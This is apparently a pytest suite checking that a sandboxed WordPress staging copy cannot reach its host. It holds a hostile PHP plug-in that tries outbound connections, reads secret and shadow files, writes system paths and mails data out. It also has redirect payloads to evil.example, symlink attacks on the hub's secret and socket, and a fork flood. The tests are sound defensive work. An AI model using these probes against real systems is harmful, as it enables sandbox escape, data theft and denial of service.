"""STG-01: a copy of a site has no way out. A plug-in in the copy tries everything that it could think of."""

import json
import os
import socket
import threading
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import pytest

from dev.wordpress import Site
from rempart.channel.source import Trouble
from rempart.staging.net import hostile
from rempart.staging.net.gate import COOKIE
from rempart.staging.net.opened import OpenCopy
from tests.staging.stage import opened

pytestmark = [pytest.mark.slow, pytest.mark.file]
SECRET = "what only the hub may know"

EVIL = """<?php
if (isset($_GET['evil'])) {
    error_reporting(0);
    $port = (int) $_GET['port']; $state = $_GET['state']; $got = [];
    $got['tcp_out'] = (bool) fsockopen('1.1.1.1', 80, $n, $w, 2);
    $got['tcp_hub'] = (bool) fsockopen('127.0.0.1', $port, $n, $w, 2);
    $got['dns'] = gethostbyname('example.com') !== 'example.com';
    $udp = stream_socket_client('udp://8.8.8.8:53', $n, $w, 2);
    $got['udp'] = $udp && fwrite($udp, 'x') > 0 && (bool) stream_select_one($udp);
    $got['curl'] = trim((string) shell_exec("curl -s -m 2 http://127.0.0.1:$port/ 2>/dev/null"));
    $got['http'] = !is_wp_error(wp_remote_get("http://127.0.0.1:$port/"));
    $got['unix'] = (bool) stream_socket_client("unix://$state/hub.sock", $n, $w, 2);
    $got['abstract'] = (bool) stream_socket_client("unix://\\0rempart-hub-test", $n, $w, 2);
    $got['state'] = (string) file_get_contents("$state/secret") . shell_exec("cat $state/secret 2>/dev/null");
    foreach (['/etc/rempart', '/etc/shadow', '/root', '/home', '/var', '/run', '/sys', '/srv', '/opt', '/proc/1/root/etc/shadow'] as $p) {
        $got["see $p"] = file_exists($p);
    }
    foreach (['/usr/x', '/rempart/x', '/rempart-own/x', '/etc/x', '/x', '/dev/x', '/copy/x'] as $p) {
        $got["write $p"] = (bool) file_put_contents($p, 'x');
    }
    $got['userns'] = trim((string) shell_exec('unshare -Ur id -u 2>/dev/null'));
    $got['ptrace'] = trim((string) shell_exec('ls /proc | grep -c "^[0-9]"')) > 40;
    $got['env'] = implode(' ', array_keys(getenv()));
    $got['id'] = trim((string) shell_exec('id -u; grep CapEff /proc/self/status'));
    $got['mail'] = mail('thief@example.com', 'all of it', 'x');
    $fds = ''; foreach (glob('/proc/self/fd/*') as $fd) { $fds .= readlink($fd) . ' '; }
    $got['handles'] = $fds;
    $got['own'] = (string) file_get_contents('/rempart-own/rules.json');
    header('Content-Type: application/json'); echo json_encode($got); exit;
}
if (isset($_GET['away'])) { header('Refresh: 0; url=https://evil.example'); header('Location: ' . $_GET['away']); exit; }
if (isset($_GET['cookies'])) { setcookie('sessionid', 'tossed', 0, '/', 'localhost'); echo json_encode($_COOKIE); exit; }
function stream_select_one($s) { $r = [$s]; $w = $e = null; return stream_select($r, $w, $e, 1); }
"""


@pytest.fixture(scope="module")
def copy(wordpress: Site, tmp_path_factory: pytest.TempPathFactory) -> Iterator[OpenCopy]:
    """Of the SQLite site, with the plug-in inside."""
    with opened(wordpress, tmp_path_factory.mktemp("copy")) as (made, _):
        made.put("wp-content/mu-plugins/evil.php", EVIL.encode())
        yield made


@pytest.fixture(scope="module")
def hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[int, Path, list[str]]]:
    """What the hub has on this machine: a port, two sockets and a secret file. Whoever comes in is written down."""
    state, came, lines = tmp_path_factory.mktemp("s"), list[str](), list[socket.socket]()
    (state / "secret").write_text(SECRET)
    for name, family, where in (
        ("port", socket.AF_INET, ("127.0.0.1", 0)),
        ("socket", socket.AF_UNIX, str(state / "hub.sock")),
        ("abstract", socket.AF_UNIX, "\0rempart-hub-test"),
    ):
        line = socket.socket(family)
        line.bind(where)
        line.listen()
        lines.append(line)
        threading.Thread(target=_note, args=(line, name, came), daemon=True).start()
    yield lines[0].getsockname()[1], state, came
    for line in lines:
        line.shutdown(socket.SHUT_RDWR)
        line.close()


def _note(line: socket.socket, name: str, came: list[str]) -> None:
    try:
        while True:
            one, _ = line.accept()
            came.append(name)
            one.sendall(b"HTTP/1.0 200 OK\r\n\r\nhello from the hub")
            one.close()
    except OSError:
        return


def test_no_way_out(copy: OpenCopy, hub: tuple[int, Path, list[str]]) -> None:
    port, state, came = hub
    before = copy.sunk().mails
    answer = copy.fetch(f"/?evil=1&port={port}&state={state}")
    got = json.loads(answer.body)
    assert came == []
    assert SECRET not in answer.body.decode()
    for name in (
        "tcp_out",
        "tcp_hub",
        "dns",
        "udp",
        "curl",
        "http",
        "unix",
        "abstract",
        "state",
        "userns",
        "ptrace",
        "own",
    ):
        assert not got[name], (name, got[name])
    assert [name for name, value in got.items() if name.startswith(("see ", "write ")) and value] == []
    assert set(got["env"].split()) <= {"PATH", "HOME", "LANG", "TMPDIR", "PHP_INI_SCAN_DIR", "PHP_CLI_SERVER_WORKERS", "PWD",
                                       "SHLVL", "_", "OLDPWD"}  # fmt: skip
    assert got["id"].split() == ["1000", "CapEff:", "0000000000000000"]
    assert str(copy.box.folder) not in got["handles"]
    assert got["mail"] is True  # WordPress is told that it went
    assert copy.sunk().mails == before + 1


def test_a_stranger_is_not_let_in_and_a_word_works_once(copy: OpenCopy) -> None:
    assert copy.fetch("/", cookies={}).status == 403
    assert copy.fetch("/", cookies={COOKIE: "guessed"}).status == 403
    assert copy.fetch("/.rempart/enter?word=guessed", cookies={}).status == 403
    path = copy.door().removeprefix(copy.url)
    first = copy.fetch(path, cookies={})
    assert (first.status, set(first.cookies)) == (303, {COOKIE})
    assert "httponly" in first.headers["set-cookie"].lower()
    assert copy.fetch(path, cookies={}).status == 403
    assert copy.fetch("/", cookies=first.cookies).status == 200
    inside = copy.fetch(copy.door().removeprefix(copy.url) + "&as=administrator", cookies={})
    assert copy.fetch("/wp-admin/", cookies=inside.cookies).status == 200
    # The header that signs in is the gate's own: nobody sends it through.
    signed = copy.fetch("/", headers={"X-Rempart-Sign-In": copy._sign_in})
    assert (signed.status, signed.cookies) == (200, {})


def test_cookies_of_the_hub_do_not_go_in_and_none_comes_out(copy: OpenCopy) -> None:
    mine = {**copy.cookies(), "sessionid": "of the hub", "w_own": "of the copy"}
    answer = copy.fetch("/?cookies=1", cookies=mine)
    assert json.loads(answer.body) == {"own": "of the copy"}
    assert answer.cookies == {"w_sessionid": "tossed"}
    assert "domain" not in answer.headers["set-cookie"].lower()
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("default-src 'self'")
    assert "http" not in policy


@pytest.mark.parametrize(
    ("away", "status"),
    [("/shop/", 302), ("https://evil.example/?stolen", 403), ("//evil.example/", 403), ("/\\evil.example", 403), ("data:text/html,x", 403),
     ("http:evil", 403), ("http://c0ffee0123456789.localhost@evil.example/", 403)],
)  # fmt: skip
def test_redirects_do_not_lead_out(copy: OpenCopy, away: str, status: int) -> None:
    answer = copy.fetch(f"/?away={urllib.parse.quote(away, safe='')}")
    assert answer.status == status
    assert "refresh" not in answer.headers
    if status == 302:
        assert copy.fetch(f"/?away={urllib.parse.quote(copy.url + '/x', safe='')}").status == 302


def test_signed_in_as_its_administrator(copy: OpenCopy) -> None:
    assert copy.fetch("/wp-admin/").status == 302
    answer = copy.fetch("/wp-admin/", cookies=copy.cookies(signed_in=True))
    assert (answer.status, b"wp-admin-bar" in answer.body) == (200, True)


def test_files_are_written_and_read_from_inside(copy: OpenCopy, hub: tuple[int, Path, list[str]]) -> None:
    _, state, _ = hub
    copy.run(["ln", "-s", str(state / "secret"), "wp-content/out"])
    with pytest.raises(Trouble):
        copy.read("wp-content/out")
    with pytest.raises(Trouble):
        copy.put("wp-content/out", b"mine")
    assert (state / "secret").read_text() == SECRET
    for path in ("../x", "/etc/passwd", "a/../../x"):
        with pytest.raises(Trouble):
            copy.read(path)
    copy.put("wp-content/new folder/x.txt", b"there")
    assert copy.read("wp-content/new folder/x.txt") == b"there"


def test_too_many_processes_are_ended(copy: OpenCopy) -> None:
    """The kernel refuses them where the hub is no root; where it is, the watch ends all of it."""
    said = ""
    try:
        said = copy.box.run(["sh", "-c", "for i in $(seq 400); do sleep 30 & done; wait"], within_s=20).said
    except Trouble as trouble:
        said = trouble.code
    assert said == "too_large" or "fork" in said
    assert copy.is_alive


def test_links_laid_for_the_hub_lead_nowhere(copy: OpenCopy, hub: tuple[int, Path, list[str]]) -> None:
    """The last: it breaks the copy's own door."""
    _, state, came = hub
    assert copy.fetch("/").status == 200
    copy.run(["sh", "-c", "rm -f /copy/run/errors /copy/run/mails /copy/run/calls; cd /copy/run; for f in errors mails calls;"
              f" do ln -s {state}/secret $f; done; mv http.sock away; ln -s {state}/hub.sock http.sock"])  # fmt: skip
    assert copy.error_log() == []
    assert copy.sunk().mails == 0
    assert copy.sunk().calls == {}
    assert copy.fetch("/").status == 502
    assert came == []
    with pytest.raises(OSError, match=r"no socket|Connection refused"):
        hostile.connect(copy.box.folder / "run", "http.sock", 1)
    assert os.path.lexists(state / "hub.sock")
